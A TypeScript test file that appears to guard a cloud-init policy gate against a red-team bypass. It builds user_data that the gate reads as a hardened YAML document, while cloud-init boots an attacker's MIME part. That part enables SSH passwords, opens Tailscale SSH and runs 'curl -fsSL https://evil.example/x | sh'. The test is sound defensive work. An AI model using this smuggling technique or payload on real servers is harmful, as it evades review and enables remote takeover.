import { describe, expect, it } from "vitest";
import { judgeResources } from "../policies/engine/judge";
import { decodeUserData, encodeUserData } from "../policies/engine/userData";
import { parseCloudInit } from "../policies/engine/cloudInit";
import { CONTEXT } from "./policies/helpers";
import { planShipped } from "./helpers/stacks";
import { run, toolsAvailable } from "./helpers/tools";

/**
 * Seen by a red team (2026-12-06): cloud-init's user_data.convert_string treats any user_data whose first 4,096
 * (decompressed) bytes contain "mime-version:" as a MIME message, and Python's email parser
 * ignores a first line that starts with a space (FirstHeaderLineIsContinuationDefect). The gate
 * trims the first line and judges the whole text as YAML. A document that is at once a valid
 * YAML flow mapping (so the gate judges the real, hardened sandbox document) and a multipart
 * MIME message (so cloud-init boots only the attacker's part) passes every rule.
 */

const SERVER = "hcloud:index/server:Server";

/** Every part cloud-init's UserDataProcessor makes of a user_data string, as on a Hetzner server. */
function cloudInitParts(sent: string): { type: string; payload: string }[] {
    const program = [
        "import json, sys, tempfile",
        "from cloudinit.sources.helpers.hetzner import maybe_b64decode",
        "from cloudinit.user_data import UserDataProcessor",
        "d = tempfile.mkdtemp()",
        "class P:",
        "    def get_cpath(self, *a): return d",
        "    def get_ipath(self, *a): return d",
        "    def get_ipath_cur(self, *a): return d",
        "msg = UserDataProcessor(P()).process(maybe_b64decode(sys.stdin.read().encode()))",
        "out = []",
        "for part in msg.walk():",
        "    if part.get_content_maintype() == 'multipart': continue",
        "    pl = part.get_payload(decode=True) or b''",
        "    out.append({'type': part.get_content_type(), 'payload': pl.decode('utf-8', 'replace')})",
        "print(json.dumps(out))",
    ].join("\n");
    const result = run("/usr/bin/python3", ["-c", program], { input: sent });
    if (result.status !== 0) throw new Error(result.stderr);
    return JSON.parse(result.stdout);
}

/** The real document re-spelt as a YAML flow mapping that is also a MIME message carrying `evil`. */
function smuggle(realDocument: string, evil: string): string {
    const data = parseCloudInit(realDocument).data!;
    const part = Buffer.from(evil).toString("base64").replace(/.{76}/g, "$&\n");
    return [
        " #cloud-config", // the gate trims it; Python's email parser drops it as a continuation line
        "{MIME-Version: 1.0,",
        "Content-Type: multipart/mixed; boundary=B,", // YAML: the value ends at the comma; MIME: boundary is "B,"
        'x: "',
        "",
        "--B,",
        "Content-Type: text/cloud-config",
        "Content-Transfer-Encoding: base64", // the gate sees only base64 letters in a string
        "",
        part,
        "--B,--",
        `", ${JSON.stringify(data).slice(1)}`, // the rest of the mapping: the real, judged document
        "",
    ].join("\n");
}

const hasCloudInit = toolsAvailable("cloud-init's own user_data processing", ["cloud-init"]);

describe.runIf(hasCloudInit)("smuggled user_data: MIME smuggled inside #cloud-config", () => {
    it("the gate judges the hardened sandbox document while cloud-init boots only the attacker's cloud-config", async () => {
        const plan = await planShipped("dev", "up");
        const clean = judgeResources(plan.resources, CONTEXT).map((f) => f.rule);
        const sandbox = plan.resources.find((r) => r.type === SERVER && /sandbox/.test(r.name))!;
        const evil = "#cloud-config\nssh_pwauth: true\nruncmd:\n  - [tailscale, up, --ssh]\n  - curl -fsSL https://evil.example/x | sh\n";
        const smuggled = encodeUserData(smuggle(decodeUserData(String(sandbox.inputs.userData)).text, evil));
        expect(smuggled.length).toBeLessThanOrEqual(32_768);

        // What the host boots: only the attacker's document.
        const parts = cloudInitParts(smuggled);
        expect(parts).toEqual([{ type: "text/cloud-config", payload: evil }]);

        // What the gate says: it must not pass this server (it should be cloud-init-parses / unverifiable).
        const withSmuggled = plan.resources.map((r) => (r === sandbox ? { ...r, inputs: { ...r.inputs, userData: smuggled } } : r));
        const findings = judgeResources(withSmuggled, CONTEXT).map((f) => f.rule);
        expect(findings.filter((r) => !clean.includes(r)), "the gate reports nothing new for a host that boots the attacker's document").toContain("cloud-init-parses");
    });

    it("a first line '#!x: y' is a script to the gate and a MIME header to cloud-init", () => {
        const evil = "#cloud-config\nssh_pwauth: true\nruncmd:\n  - [tailscale, up, --ssh]\n";
        const doc = [
            "#!x: y", // the gate: a script (one string leaf); Python's email parser: a header named "#!x"
            "MIME-Version: 1.0",
            "Content-Type: multipart/mixed; boundary=B",
            "",
            "--B",
            "Content-Type: text/cloud-config",
            "Content-Transfer-Encoding: base64",
            "",
            Buffer.from(evil).toString("base64"),
            "--B--",
            "",
        ].join("\n");
        const sent = encodeUserData(doc);
        expect(cloudInitParts(sent)).toEqual([{ type: "text/cloud-config", payload: evil }]);
        const server = { urn: "urn:s", type: SERVER, name: "s", inputs: { firewallIds: [1], userData: sent } };
        const rules = judgeResources([server as any], CONTEXT).map((f) => f.rule);
        expect(rules, "a server booting ssh_pwauth: true and tailscale up --ssh is judged clean").toContain("cloud-init-parses");
    });
});
